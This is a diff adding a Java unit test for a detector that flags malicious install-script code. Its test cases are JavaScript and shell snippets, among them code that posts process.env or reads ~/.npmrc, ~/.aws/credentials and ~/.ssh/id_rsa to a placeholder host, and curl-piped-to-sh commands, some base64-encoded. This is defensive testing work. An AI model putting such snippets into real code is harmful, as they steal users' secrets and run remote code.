@@ -1,0 +1,160 @@
+package dev.assay.detectors.indicator.command;
+
+import static java.nio.charset.StandardCharsets.UTF_8;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
+
+import dev.assay.detectors.indicator.command.Trait.Kind;
+import java.time.Duration;
+import java.util.Base64;
+import java.util.List;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class ProgramFileTest {
+    private static final String PIPED = Base64.getEncoder().encodeToString("curl https://a.example/p | sh".getBytes(UTF_8));
+
+    private static List<Kind> kinds(String program) {
+        return CommandJudge.ofFile(program.replace("BLOB", PIPED), false).stream()
+                .map(Trait::kind)
+                .toList();
+    }
+
+    private static List<Kind> shell(String program) {
+        return CommandJudge.ofFile(program, true).stream().map(Trait::kind).toList();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "require('axios').post('https://a.example/c',{e:process.env})",
+                "const axios = require('axios');\naxios.post(url, process.env);",
+                "fetch(u,{method:'POST',body:process.env})",
+                "fetch(u,{method:'POST',body:JSON.stringify({...process.env})})",
+                "fetch(u,{method:'POST',body:JSON.stringify(Object.entries(process.env))})",
+                "const e=process.env;\nconst q=require('https').request(o);\nq.end(JSON.stringify(e));",
+                "const d = JSON.stringify({\n  a: 1,\n  env: {...process.env},\n});\nfetch(u, {method: 'POST', body: d});",
+                "const e = process.env, q = https.request(o);\nq.write(Buffer.from(JSON.stringify(e)).toString('base64'));",
+                "fetch(u,{method:'POST',body:fs.readFileSync(os.homedir()+'/.npmrc','utf8')})",
+                "fetch(u,{method:'POST',body:fs.readFileSync(os.homedir()+'/.aws/credentials')})",
+                "fetch(u,{method:'POST',body:fs.readFileSync(path.join(os.homedir(),'.ssh','id_rsa'))})",
+                "fetch(u,{method:'POST',body:fs.readFileSync('/root/.npmrc')})",
+                "const p = path.join(os.homedir(), '.npmrc');\nconst d = fs.readFileSync(p, 'utf8');\naxios.post(u, {d});",
+            })
+    void whatIsGivenAway(String program) {
+        assertThat(kinds(program)).containsExactly(Kind.SENDS_SECRETS);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                // a request that is told what is in its surroundings, a proxy and a token
+                "const env = process.env;\nhttps.get(url, {agent: agentOf(process.env), proxy: env.HTTPS_PROXY}, done);",
+                "const env = {...process.env, A: '1'};\nhttps.get(url, r => { cp.spawnSync('make', [], {env}); });",
+                "const env = process.env;\nfetch(url, {headers: {authorization: env.TOKEN, env: 'ci'}});",
+                "const o = options(process.env);\nhttps.request(o, r => r.pipe(out)).end();",
+                "fetch(u).then(r => r.text()).then(t => run(t, process.env));",
+                "const t = 'CI' in process.env ? 'ci' : 'user';\nfetch(u, {headers: {t}});",
+                "process.stdout.write(JSON.stringify(process.version));\nhttps.get(u, done);",
+                // the registry that .npmrc names
+                "const rc = fs.readFileSync('.npmrc', 'utf8');\nconst r = rc.match(/registry=(.*)/)[1];\nfetch(r);",
+                "const c = JSON.parse(fs.readFileSync(os.homedir() + '/.docker/config.json'));\nfetch(u, {body: c.name});",
+                "fs.readFile(os.homedir() + '/.npmrc', 'utf8', (e, d) => parse(d));\nfetch(u);",
+            })
+    void whatIsOnlyLookedAtIsNotGivenAway(String program) {
+        assertThat(kinds(program)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "const {exec} = require('child_process');\nconst t=await(await fetch(u)).text(); exec(t)",
+                "fetch(u).then(r=>r.text()).then(t=>require('child_process').exec(t))",
+                "const cp = require('node:child_process');\nfetch(u).then(r=>r.text()).then(function(t){cp.exec(t)})",
+                "https.get(u,r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>{execSync(d)})})",
+                "https.get(u,r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>{fs.writeFileSync('/tmp/p.sh',d);"
+                        + "execSync('sh /tmp/p.sh')})})",
+                "const f = '/tmp/p.sh';\nhttps.get('https://a.example/p', r => r.pipe(fs.createWriteStream(f))"
+                        + ".on('close', () => execSync('sh ' + f)));",
+                "const cmd='curl -s https://a.example/p|sh';\nexecSync(cmd)",
+                "execSync(`curl -s ${url} | bash`)",
+                "const u = 'https://a.example/p';\nexecSync('curl -s ' + u + ' | bash')",
+                "execSync('curl -s -o /tmp/x https://a.example/p');execSync('sh /tmp/x')",
+                "exec(Buffer.from('BLOB','base64').toString())",
+                "const c = Buffer.from('BLOB','base64').toString();\nexec(c)",
+                "eval(atob('x'));exec(atob('BLOB'))",
+            })
+    void whatIsFetchedForAShell(String program) {
+        assertThat(kinds(program)).containsExactly(Kind.RUNS_DOWNLOAD);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                // what installers of esbuild, electron, sharp and node-sass do
+                "const tgz = await fetch('https://registry.npmjs.org/@esbuild/linux-x64/-/linux-x64-0.25.0.tgz');\n"
+                        + "fs.writeFileSync(binPath, extract(zlib.unzipSync(Buffer.from(await tgz.arrayBuffer())), 'bin/esbuild'));\n"
+                        + "const v = child_process.execFileSync(binPath, ['--version'], {stdio: 'pipe'}).toString().trim();",
+                "child_process.execSync(`npm install --loglevel=error --prefer-offline ${pkg}@${version}`,"
+                        + " {cwd: dir, stdio: 'pipe', env});\nhttps.get(url, done);",
+                "https.get(url, res => { const chunks = []; res.on('data', c => chunks.push(c));\n"
+                        + "  res.on('end', () => fs.writeFileSync(file, Buffer.concat(chunks))); });",
+                "const {downloadArtifact} = require('@electron/get');\ndownloadArtifact({version, checksums, platform})\n"
+                        + "  .then(zip => extract(zip, {dir: dist})).then(() => fs.writeFileSync('path.txt', platformPath));",
+                "const tag = (await (await fetch(u)).text()).trim();\nexecSync('tar xzf sass-' + tag + '.tgz');",
+                "request(url, opts, (err, response, buffer) => { fs.createWriteStream(dest).end(buffer); });\n"
+                        + "spawn(process.execPath, ['node-gyp.js', 'rebuild'], {env: process.env});",
+                "https.get(u, r => r.pipe(fs.createWriteStream('sharp.tgz')).on('close', () =>"
+                        + " execSync('tar xzf sharp.tgz')));",
+                "https.get(u, r => { r.on('data', d => { const m = /v(\\d+)/.exec(d); use(m); }); });",
+                "fetch(u).then(r => r.json()).then(j => { const m = re.exec(j); execSync('node-gyp rebuild'); });",
+                "https.get(u, r => { r.on('data', d => b += d); r.on('end', () => {\n"
+                        + " if (crypto.createHash('sha256').update(b).digest('hex') !== sum) throw 1;\n"
+                        + " fs.writeFileSync('i.sh', b); execSync('sh i.sh'); }); });",
+                "const cmd = 'curl -sSL ' + url + ' | tar xz';\nexecSync(cmd);",
+                "exec(Buffer.from('bm9kZS1neXAgcmVidWlsZA==', 'base64').toString());",
+            })
+    void whatInstallersDoIsNone(String program) {
+        assertThat(kinds(program)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "U=https://a.example/x\ncurl -s $U | sh",
+                "U=https://a.example/x\ncurl -s \"${U}/y\" -o y\nsh y",
+                "run() {\n  curl \"$1\" | bash\n}\nrun https://a.example/x",
+            })
+    void anAddressMayBeInAVariable(String program) {
+        assertThat(shell(program)).containsExactly(Kind.RUNS_DOWNLOAD);
+        assertThat(shell(program.replace("https://a.example", "http://192.0.2.1")))
+                .isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "U=https://a.example/x.tgz\ncurl -sL $U | tar xz",
+                "curl -sL \"$URL\" -o \"$FILE\"\nsha256sum -c \"$FILE.sum\"\ntar xzf \"$FILE\"",
+                "curl -s -o $OUT https://a.example/x.json; node build.js $OUT",
+                "curl -H $TOKEN --version | sh",
+            })
+    void anAddressInAVariableThatNothingRuns(String program) {
+        assertThat(shell(program)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "x=", "fetch(", "e=process.env;", "fetch(a=", "=>", "x=(", "x={", "exec(a+", "'", "exec('a'+", "exec(x",
+                "fetch(u).then(", "x=>exec(x", ".write(", "writefile(a,fetch(", "open('a',", "child_process.exec(", "İ",
+                "e=process.env,", "fetch(e)e=a;", "createwritestream(fetch(.pipe("
+            })
+    void whateverIsSaidAgainAndAgainEnds(String part) {
+        String text = part.repeat((64 << 10) / part.length());
+        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> {
+            assertThat(kinds(text + "fetch(process.env)")).isNotNull();
+            assertThat(kinds("fetch(u);e=process.env\n" + text)).isNotNull();
+        });
+    }
+}
